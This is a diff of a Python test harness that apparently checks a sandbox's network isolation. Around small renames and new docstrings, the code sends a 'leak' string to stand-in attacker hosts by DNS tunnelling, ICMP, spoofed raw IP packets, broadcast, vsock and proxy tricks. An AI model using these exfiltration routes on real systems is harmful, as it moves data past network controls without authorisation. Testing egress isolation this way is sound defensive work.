@@ -15,7 +15,7 @@ import urllib.request
 from typing import NamedTuple
 
 PROXY = ("127.0.0.1", 3128)
-GUARD = 20  # seconds
+TIMEOUT = 20  # seconds; the machine has this file alone, so it is none of support.guards
 PAST = "nothing leads out but the proxy"
 UNNAMED = "no rule names it"
 UNCLEAR = "two programs could understand it in two ways"
@@ -35,6 +35,7 @@ class Way(NamedTuple):
 
 
 def filled(text, facts):
+    """Return text with the facts of the run in it; anything else as it is."""
     return text.format_map(facts) if isinstance(text, str) else text
 
 
@@ -46,7 +47,7 @@ def packet(kind, address, port, family=socket.AF_INET):
 
     def send(facts):
         with socket.socket(family, kind) as sock:
-            sock.settimeout(GUARD)
+            sock.settimeout(TIMEOUT)
             sock.connect((filled(address, facts), int(filled(port, facts))))
             sock.sendall(facts["leak"].encode())
             return sock.recv(100)
@@ -55,38 +56,45 @@ def packet(kind, address, port, family=socket.AF_INET):
 
 
 def tcp(address, port, family=socket.AF_INET):
+    """Return a way that sends the leak over TCP."""
     return packet(socket.SOCK_STREAM, address, port, family)
 
 
 def udp(address, port, family=socket.AF_INET):
+    """Return a way that sends the leak in a datagram."""
     return packet(socket.SOCK_DGRAM, address, port, family)
 
 
 def query(name):
+    """Return a DNS query for the text record of a name (RFC 1035, section 4)."""
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
     return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 16, 1)
 
 
 def ask_udp(facts):
+    """Ask a name server of the attacker over UDP."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.settimeout(GUARD)
+        sock.settimeout(TIMEOUT)
         sock.connect(("203.0.113.11", 53))
         sock.send(query(f"{facts['leak']}.tunnel.test"))
         return sock.recv(500)
 
 
 def ask_tcp(facts):
-    with socket.create_connection(("203.0.113.12", 53), GUARD) as sock:
+    """Ask a name server of the attacker over TCP."""
+    with socket.create_connection(("203.0.113.12", 53), TIMEOUT) as sock:
         question = query(f"{facts['leak']}.tunnel.test")
         sock.sendall(struct.pack("!H", len(question)) + question)
         return sock.recv(500)
 
 
 def ask_resolver(facts):
+    """Ask the resolver of the machine."""
     return socket.getaddrinfo(f"{facts['leak']}.resolver.test", 80)
 
 
 def checksum(data):
+    """Return the checksum of the Internet protocols (RFC 1071)."""
     total = sum(struct.unpack(f"!{len(data) // 2}H", data + b"\0" * (len(data) % 2)))
     while total >> 16:
         total = (total & 0xFFFF) + (total >> 16)
@@ -94,6 +102,7 @@ def checksum(data):
 
 
 def ping(facts):
+    """Send the leak in an ICMP echo request."""
     body = facts["leak"].encode().ljust(40)
     head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
     head = struct.pack("!BBHHH", 8, 0, checksum(head + body), 1, 1)
@@ -102,6 +111,7 @@ def ping(facts):
 
 
 def ping_6(facts):
+    """Send the leak in an ICMPv6 echo request."""
     with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
         return sock.sendto(
             struct.pack("!BBHHH", 128, 0, 0, 1, 1) + facts["leak"].encode(), ("2001:db8::21", 0)
@@ -109,6 +119,7 @@ def ping_6(facts):
 
 
 def ip_packet(protocol, target, payload, source="198.51.100.1"):
+    """Return an IPv4 packet with a false sender."""
     head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 9, 0, 64, protocol, 0)
     addresses = socket.inet_aton(source) + socket.inet_aton(target)
     return head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses + payload
@@ -126,6 +137,7 @@ def raw_ip(protocol, target):
 
 
 def syn_with_data(facts):
+    """Send the leak in the first packet of a TCP connection."""
     tcp_head = struct.pack("!HHIIBBHHH", 1234, 443, 1, 0, 5 << 4, 2, 8192, 0, 0)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         made = ip_packet(socket.IPPROTO_TCP, "203.0.113.24", tcp_head + facts["leak"].encode())
@@ -133,6 +145,7 @@ def syn_with_data(facts):
 
 
 def link_layer(facts):
+    """Send the leak in a frame of a network card that is not there."""
     payload = struct.pack("!HHHH", 9, 9, 8 + len(facts["leak"]), 0) + facts["leak"].encode()
     with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as sock:
         return sock.sendto(
@@ -141,31 +154,36 @@ def link_layer(facts):
 
 
 def other_card(facts):
+    """Send the leak through a network card other than loopback."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
         return sock.sendto(facts["leak"].encode(), ("203.0.113.26", 9))
 
 
 def on_loopback_card(facts):
+    """Send the leak through the loopback card, to an address outside."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
         return sock.sendto(facts["leak"].encode(), ("203.0.113.27", 9))
 
 
 def multicast(facts):
+    """Ask for the leak as a name by multicast DNS."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         return sock.sendto(query(f"{facts['leak']}.local"), ("224.0.0.251", 5353))
 
 
 def broadcast(facts):
+    """Send the leak to all hosts of the network."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
         return sock.sendto(facts["leak"].encode(), ("255.255.255.255", 67))
 
 
 def vsock(facts):
+    """Connect to the host by vsock."""
     with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM) as sock:
-        sock.settimeout(GUARD)
+        sock.settimeout(TIMEOUT)
         sock.connect((2, int(facts["trap"])))  # CID 2: the host
         return sock.send(facts["leak"].encode())
 
@@ -174,7 +192,7 @@ def vsock(facts):
 
 
 def answer(sock):
-    """Return all that comes."""
+    """Return all that comes until the connection ends."""
     data = b""
     with contextlib.suppress(ConnectionError):
         while piece := sock.recv(65536):
@@ -183,6 +201,7 @@ def answer(sock):
 
 
 def until(sock, end):
+    """Return what comes up to ``end``, or to the end of the connection."""
     data = b""
     while end not in data:
         piece = sock.recv(1)
@@ -196,7 +215,7 @@ def proxied(raw):
     """Send bytes to the proxy as they are."""
 
     def ask(facts):
-        with socket.create_connection(PROXY, GUARD) as sock:
+        with socket.create_connection(PROXY, TIMEOUT) as sock:
             sock.sendall(raw if isinstance(raw, bytes) else filled(raw, facts).encode("latin-1"))
             return answer(sock)
 
@@ -223,7 +242,7 @@ def second(url, *, pipelined):
         host = url.partition("://")[2].partition("/")[0]
         two = f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
         one, two = (filled(text, facts).encode() for text in (one, two))
-        with socket.create_connection(PROXY, GUARD) as sock:
+        with socket.create_connection(PROXY, TIMEOUT) as sock:
             sock.sendall(one + two if pipelined else one)
             first = until(sock, b"hello")
             assert b"200 OK" in first, first
@@ -237,7 +256,7 @@ def second(url, *, pipelined):
 def tunnel(target, facts):
     """Return a connection through a tunnel that the proxy lets begin."""
     target = filled(target, facts)
-    sock = socket.create_connection(PROXY, GUARD)
+    sock = socket.create_connection(PROXY, TIMEOUT)
     sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
     head = until(sock, b"\r\n\r\n")
     assert b" 200 " in head, head
@@ -312,7 +331,7 @@ def redirected(target):
 
     def follow(facts):
         url = f"http://{facts['name']}.plain.test/redirect?to={filled(target, facts)}"
-        return urllib.request.urlopen(url, timeout=GUARD).read()
+        return urllib.request.urlopen(url, timeout=TIMEOUT).read()
 
     return follow
 
